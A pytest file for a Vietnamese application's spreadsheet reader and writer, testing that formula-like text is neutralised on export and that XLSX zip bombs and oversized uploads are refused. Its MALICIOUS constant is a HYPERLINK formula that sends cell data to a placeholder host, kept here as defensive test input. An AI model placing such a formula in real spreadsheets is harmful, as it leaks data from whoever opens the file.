"""The shared spreadsheet reader and writer: no cell we write is a formula, and no upload is read past its limits."""

import csv
import io
import sys
import zipfile

import pytest
from openpyxl import Workbook, load_workbook

from kynangso import tabular
from kynangso.errors import DomainError
from tests.support.files import xlsx_bomb

MALICIOUS = '=HYPERLINK("http://x?d="&D3,"x")'


# Formula injection (issue 13, finding 4) -----------------------------------------------------------------------------


@pytest.mark.parametrize("text", ["=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", MALICIOUS])
def test_text_that_a_spreadsheet_would_run_gets_a_leading_quote(text):
    assert tabular.neutralise(text) == "'" + text


@pytest.mark.parametrize("value", [-5, 3.5, "Nguyễn Văn An", "0912345678", "", None])
def test_numbers_and_ordinary_text_are_left_alone(value):
    assert tabular.neutralise(value) == value


def assert_inert_text(cell, text):
    """An XLSX cell that shows `text` and that no spreadsheet program runs: a string cell (no <f> element),
    quote-prefixed like text a person typed after a «'»."""
    assert (cell.value, cell.data_type, cell.quotePrefix) == (text, "s", True)


def formulas_in(path) -> bytes:
    with zipfile.ZipFile(path) as archive:
        return b"".join(archive.read(name) for name in archive.namelist() if name.startswith("xl/worksheets/"))


def test_write_xlsx_writes_formula_text_as_a_string_cell(tmp_path):
    tabular.write_xlsx(tmp_path / "a.xlsx", headers=["Họ và tên", "Số"], rows=[[MALICIOUS, -5]], row_errors={0: "=lỗi"})
    sheet = load_workbook(tmp_path / "a.xlsx").active
    assert_inert_text(sheet["A2"], MALICIOUS)
    assert (sheet["B2"].data_type, sheet["B2"].value) == ("n", -5)
    assert_inert_text(sheet["C2"], "=lỗi")
    assert b"<f>" not in formulas_in(tmp_path / "a.xlsx")


def test_save_workbook_neutralises_cells_written_directly_with_openpyxl(tmp_path):
    workbook = Workbook()
    workbook.active.cell(row=1, column=1, value=MALICIOUS)
    workbook.active.cell(row=1, column=2, value=-5)
    tabular.save_workbook(workbook, tmp_path / "a.xlsx")
    sheet = load_workbook(tmp_path / "a.xlsx").active
    assert_inert_text(sheet["A1"], MALICIOUS)
    assert sheet["B1"].value == -5
    assert b"<f>" not in formulas_in(tmp_path / "a.xlsx")


def test_write_csv_neutralises_every_cell():
    buffer = io.StringIO()
    tabular.write_csv(buffer, headers=["ho_ten", "so"], rows=[[MALICIOUS, -5], ["@x", "An"]])
    rows = list(csv.reader(io.StringIO(buffer.getvalue())))
    assert rows == [["ho_ten", "so"], ["'" + MALICIOUS, "-5"], ["'@x", "An"]]


def test_a_file_we_wrote_reads_back_as_typed(tmp_path):
    tabular.write_xlsx(tmp_path / "a.xlsx", headers=["Tên"], rows=[["-Nhóm A"]])
    table = tabular.read_table(tmp_path / "a.xlsx", {"name": ["Tên"]}, ["name"])
    assert table.rows == [{"name": "-Nhóm A"}]


# Limits of uploads (issue 13, finding 5) -----------------------------------------------------------------------------


def test_an_xlsx_bomb_is_refused_before_it_is_unpacked(tmp_path, settings):
    settings.UPLOAD_MAX_UNCOMPRESSED_BYTES = 100 * 1024 * 1024
    path = xlsx_bomb(tmp_path / "bom.xlsx", unpacked_mib=150)
    assert path.stat().st_size < 1024 * 1024
    with pytest.raises(DomainError) as error:
        tabular.read_table(path, {"name": ["Họ và tên"]}, ["name"])
    assert "giải nén ra quá lớn" in error.value.message


def test_an_xlsx_with_an_absurd_compression_ratio_is_refused(tmp_path, settings):
    settings.UPLOAD_MAX_COMPRESSION_RATIO = 100
    path = xlsx_bomb(tmp_path / "bom.xlsx", unpacked_mib=5)  # far under the size limit, but 5 MiB from a few KB
    with pytest.raises(DomainError) as error:
        tabular.check_xlsx_archive(path)
    assert "giải nén ra quá lớn" in error.value.message


def test_an_ordinary_xlsx_passes_the_archive_check(tmp_path):
    tabular.write_xlsx(tmp_path / "a.xlsx", headers=["Tên"], rows=[[f"Người {n}"] for n in range(2000)])
    tabular.check_xlsx_archive(tmp_path / "a.xlsx")


def test_a_file_that_is_not_a_zip_gets_a_vietnamese_message(tmp_path):
    (tmp_path / "a.xlsx").write_bytes(b"not a zip")
    with pytest.raises(DomainError) as error:
        tabular.read_table(tmp_path / "a.xlsx", {"name": ["Tên"]}, ["name"])
    assert "Không đọc được tệp Excel" in error.value.message


def test_problems_over_the_limit_are_counted_not_listed(settings):
    settings.UPLOAD_MAX_PROBLEMS = 3
    listed = tabular.limit_problems([f"Dòng {n}: lỗi" for n in range(10)])
    assert listed[:3] == ["Dòng 0: lỗi", "Dòng 1: lỗi", "Dòng 2: lỗi"]
    assert listed[3] == "… và 7 lỗi khác."
    assert len(listed) == 4


def test_the_error_report_costs_the_same_per_row_however_many_rows_are_bad(tmp_path):
    """Counted in Python function calls, not seconds: writing twice the bad rows must cost about twice the calls.
    (openpyxl's `max_row`, once called per row, scanned every cell and made this quadratic.)"""

    def calls_for(count: int) -> int:
        rows = [[f"Người {n}", "01/01/1990", "Nam"] for n in range(count)]
        errors = {n: f"lỗi dòng {n}" for n in range(count)}
        calls = 0

        def profile(frame, event, arg):
            nonlocal calls
            if event == "call":
                calls += 1

        sys.setprofile(profile)
        try:
            tabular.write_xlsx(io.BytesIO(), headers=["a", "b", "c"], rows=rows, row_errors=errors)
        finally:
            sys.setprofile(None)
        return calls

    small, large = calls_for(300), calls_for(1200)
    assert large < 4.6 * small  # linear: about 4×; the quadratic writer needed about 10×
